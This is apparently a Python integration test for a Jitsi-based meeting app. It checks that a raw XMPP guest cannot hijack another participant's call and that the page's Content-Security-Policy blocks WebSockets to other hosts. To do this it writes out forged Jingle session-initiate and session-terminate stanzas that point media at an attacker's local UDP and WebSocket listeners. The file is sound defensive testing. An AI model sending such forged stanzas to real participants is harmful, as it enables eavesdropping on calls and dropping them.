"""Call hijack (docs/security.md, "Who may drive a page's call"), in real Chromium through nginx: a raw XMPP guest in the room
sends a victim page a forged Jingle ``session-initiate`` (its own ICE candidate, DTLS fingerprint
and bridge-channel URL), and a forged ``session-terminate`` for the victim's real session.

The victim answers with an error IQ, keeps its call with the bridge, sends the attacker nothing
(the attacker's UDP socket and its WebSocket listener stay silent) and goes on decoding the other
participant. The page's Content-Security-Policy refuses WebSockets to a host it was not configured
for.
"""

from __future__ import annotations

import contextlib
import secrets
import socket
import time
import uuid
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import Page
from websockets.sync.client import ClientConnection, connect

from tests.integration.browser import BROWSER_MARKS, DESKTOP, LauncherStack, browsers, console_log

pytestmark = [*BROWSER_MARKS, pytest.mark.peer]

FRAMING = "urn:ietf:params:xml:ns:xmpp-framing"
STANZAS = "urn:ietf:params:xml:ns:xmpp-stanzas"
MUC = "muc.meet.jitsi"


class XmppGuest:
    """A hostile guest speaking raw XMPP over the public ``/xmpp-websocket`` (RFC 7395)."""

    def __init__(self, front: str, domain: str = "meet.jitsi") -> None:
        url = front.replace("http://", "ws://").replace("https://", "wss://") + "/xmpp-websocket"
        self.ws: ClientConnection = connect(url, subprotocols=["xmpp"], open_timeout=10).__enter__()  # type: ignore[list-item]
        self.domain = domain
        self.frames: list[str] = []
        self.jid = self._login()

    def send(self, data: str) -> None:
        self.ws.send(data)

    def recv_until(self, needle: str, timeout: float = 10.0) -> str:
        deadline = time.monotonic() + timeout
        while True:
            left = deadline - time.monotonic()
            if left <= 0:
                raise TimeoutError(f"no frame with {needle!r}; got {self.frames[-5:]}")
            try:
                frame = self.ws.recv(timeout=left)
            except TimeoutError:
                continue
            text = frame if isinstance(frame, str) else frame.decode()
            self.frames.append(text)
            if needle in text:
                return text

    def _login(self) -> str:
        self.send(f"<open xmlns='{FRAMING}' to='{self.domain}' version='1.0'/>")
        self.recv_until("features")
        self.send("<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='ANONYMOUS'/>")
        self.recv_until("success")
        self.send(f"<open xmlns='{FRAMING}' to='{self.domain}' version='1.0'/>")
        self.recv_until("features")
        self.send(
            "<iq xmlns='jabber:client' type='set' id='bind'><bind xmlns='urn:ietf:params:xml:ns:xmpp-bind'/></iq>"
        )
        bound = self.recv_until("<jid>")
        return bound.split("<jid>")[1].split("</jid>")[0]

    def join(self, room_jid: str, nick: str) -> None:
        self.send(
            f"<presence xmlns='jabber:client' to='{room_jid}/{nick}'><x xmlns='http://jabber.org/protocol/muc'/></presence>"
        )
        self.recv_until("110")  # our own presence back: we are in

    def iq_answer(self, ident: str, timeout: float = 10.0) -> ET.Element:
        """The answer to our IQ ``ident`` (the frames seen so far included)."""
        seen = 0
        deadline = time.monotonic() + timeout
        while True:
            for text in self.frames[seen:]:
                el = _iq_with_id(text, ident)
                if el is not None:
                    return el
            seen = len(self.frames)
            self.recv_until(ident, max(0.1, deadline - time.monotonic()))

    def close(self) -> None:
        with contextlib.suppress(Exception):
            self.ws.close()


def _iq_with_id(text: str, ident: str) -> ET.Element | None:
    if "<iq" not in text or ident not in text:
        return None
    with contextlib.suppress(ET.ParseError):
        el = ET.fromstring(text)
        if el.get("id") == ident:
            return el
    return None


def forged_offer(ident: str, to: str, sid: str, udp_port: int, ws_port: int) -> str:
    """A complete offer as the focus would send it, but with the attacker's transport."""
    fingerprint = ":".join(f"{b:02X}" for b in secrets.token_bytes(32))
    transport = f"""
    <transport xmlns='urn:xmpp:jingle:transports:ice-udp:1' ufrag='evil' pwd='{secrets.token_hex(12)}'>
      <fingerprint xmlns='urn:xmpp:jingle:apps:dtls:0' hash='sha-256' setup='actpass'>{fingerprint}</fingerprint>
      <candidate component='1' foundation='1' generation='0' id='c1' ip='127.0.0.1' network='0'
        port='{udp_port}' priority='2130706431' protocol='udp' type='host'/>
      <web-socket xmlns='http://jitsi.org/protocol/colibri' url='ws://127.0.0.1:{ws_port}/colibri-ws/evil/c/e?pwd=x'/>
      <ice-lite xmlns='http://jitsi.org/protocol/colibri'/>
      <rtcp-mux/>
    </transport>"""
    return f"""<iq xmlns='jabber:client' to='{to}' type='set' id='{ident}'>
 <jingle xmlns='urn:xmpp:jingle:1' action='session-initiate' initiator='focus@auth.meet.jitsi/focus' sid='{sid}'>
  <content creator='initiator' name='audio' senders='both'>
   <description xmlns='urn:xmpp:jingle:apps:rtp:1' media='audio'>
    <payload-type id='111' name='opus' clockrate='48000' channels='2'/>
    <rtcp-mux/>
   </description>{transport}
  </content>
  <content creator='initiator' name='video' senders='both'>
   <description xmlns='urn:xmpp:jingle:apps:rtp:1' media='video'>
    <payload-type id='100' name='VP8' clockrate='90000'/>
    <rtcp-mux/>
   </description>{transport}
  </content>
  <group xmlns='urn:xmpp:jingle:apps:grouping:0' semantics='BUNDLE'>
   <content name='audio'/><content name='video'/>
  </group>
 </jingle>
</iq>"""


@dataclass
class Person:
    page: Page
    log: list[str] = field(default_factory=list)

    @property
    def endpoint(self) -> str:
        return str(self.page.evaluate("window.parley.endpointId"))

    def frames(self) -> dict[str, int]:
        stats = self.page.evaluate("window.parley.videoStats()")
        return {ep: s["framesDecoded"] for ep, s in stats.items()}


def wait_until(what: str, cond, people: list[Person], timeout: float = 30.0) -> None:  # type: ignore[no-untyped-def]
    deadline = time.monotonic() + timeout
    while not cond():
        if time.monotonic() > deadline:
            logs = "\n\n".join("\n".join(p.log[-40:]) for p in people)
            raise AssertionError(f"timed out waiting for {what}\n{logs}")
        time.sleep(0.25)


@pytest.fixture(scope="module")
def meeting(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, str, Person, Person]]:
    stack = LauncherStack(tmp_path_factory.mktemp("stack") / "run", bridges=1).start()
    room = f"hijack-{uuid.uuid4().hex[:8]}"
    try:
        with browsers() as pool:
            people = []
            for name in ("Victim", "Bob"):
                page = pool.open(DESKTOP)
                person = Person(page, console_log(page))
                page.goto(f"{stack.front}/{room}?name={name}")
                people.append(person)
            for p in people:
                p.page.wait_for_selector("#meeting:not([hidden])", timeout=30_000)
            victim, bob = people
            wait_until(
                "each page decoding the other's video",
                lambda: (
                    victim.frames().get(bob.endpoint, 0) > 10 and bob.frames().get(victim.endpoint, 0) > 10
                ),
                people,
                timeout=60,
            )
            yield stack.front, room, victim, bob
    finally:
        stack.stop()


def test_forged_jingle_from_a_guest_is_refused(meeting: tuple[str, str, Person, Person]) -> None:
    front, room, victim, bob = meeting
    room_jid = f"{room}@{MUC}"
    real_session = victim.page.evaluate("window.parley.session")
    assert real_session and real_session["from"] == f"{room_jid}/focus", real_session

    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.settimeout(0.2)
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.2)
    attacker = XmppGuest(front)
    try:
        attacker.join(room_jid, f"mallory-{secrets.token_hex(2)}")
        victim_occupant = f"{room_jid}/{victim.endpoint}"
        attacker.send(
            forged_offer(
                "evil1", victim_occupant, "evil-sid", udp.getsockname()[1], listener.getsockname()[1]
            )
        )
        answer = attacker.iq_answer("evil1")
        assert answer.get("type") == "error", ET.tostring(answer, "unicode")
        conditions = {c.tag.split("}")[1] for c in answer.iter() if c.tag.startswith(f"{{{STANZAS}}}")}
        assert conditions & {"service-unavailable", "not-acceptable", "forbidden", "not-allowed"}, conditions
        # even knowing the session id, a guest cannot end the victim's call
        attacker.send(
            f"<iq xmlns='jabber:client' to='{victim_occupant}' type='set' id='evil2'>"
            f"<jingle xmlns='urn:xmpp:jingle:1' action='session-terminate' sid='{real_session['sid']}'>"
            "<reason><success/></reason></jingle></iq>"
        )
        assert attacker.iq_answer("evil2").get("type") == "error"

        # the victim keeps its call and goes on decoding Bob; nothing reaches the attacker
        before = victim.frames().get(bob.endpoint, 0)
        datagrams, connections = 0, 0
        deadline = time.monotonic() + 8
        while time.monotonic() < deadline:
            with contextlib.suppress(TimeoutError, BlockingIOError, OSError):
                udp.recvfrom(2048)
                datagrams += 1
            with contextlib.suppress(TimeoutError, BlockingIOError, OSError):
                conn, _ = listener.accept()
                conn.close()
                connections += 1
        assert datagrams == 0, f"the victim sent {datagrams} datagrams to the attacker"
        assert connections == 0, "the victim opened the attacker's bridge channel"
        assert victim.page.evaluate("window.parley.session") == real_session
        assert victim.page.evaluate("window.parley.state") == "meeting"
        wait_until(
            "the victim still decoding Bob",
            lambda: victim.frames().get(bob.endpoint, 0) > before + 20,
            [victim],
        )
        # the broker stops an occupant's IQ to another occupant (not-allowed, sent back under the
        # victim's occupant JID); when a broker relays it anyway, the page itself refuses it
        # (service-unavailable) and counts it
        if "not-allowed" not in conditions:
            assert victim.page.evaluate("window.parley.jingleRejected") >= 2
    finally:
        attacker.close()
        udp.close()
        listener.close()


def test_page_cannot_open_websockets_to_other_hosts(meeting: tuple[str, str, Person, Person]) -> None:
    _front, _room, victim, _bob = meeting
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    listener.settimeout(0.2)
    try:
        port = listener.getsockname()[1]
        blocked = victim.page.evaluate(
            """(url) => new Promise((resolve) => {
                 document.addEventListener('securitypolicyviolation',
                   (e) => resolve(e.violatedDirective + ' ' + e.blockedURI), { once: true });
                 try { new WebSocket(url); } catch (e) { resolve('threw ' + e.name); }
                 setTimeout(() => resolve('allowed'), 3000);
               })""",
            f"ws://127.0.0.1:{port}/colibri-ws/evil",
        )
        assert blocked != "allowed" and ("connect-src" in blocked or "threw" in blocked), blocked
        with pytest.raises((TimeoutError, OSError)):
            listener.accept()
    finally:
        listener.close()
